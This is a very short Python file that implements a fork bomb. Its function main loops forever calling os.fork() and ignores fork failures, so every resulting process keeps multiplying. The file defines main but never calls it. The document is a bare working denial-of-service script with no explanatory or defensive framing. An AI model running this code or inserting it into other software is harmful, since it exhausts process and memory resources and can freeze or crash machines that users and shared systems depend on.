"""Every process forks, and goes on when a fork fails."""

import os


def main(number):
    while True:
        try:
            os.fork()
        except OSError:
            pass
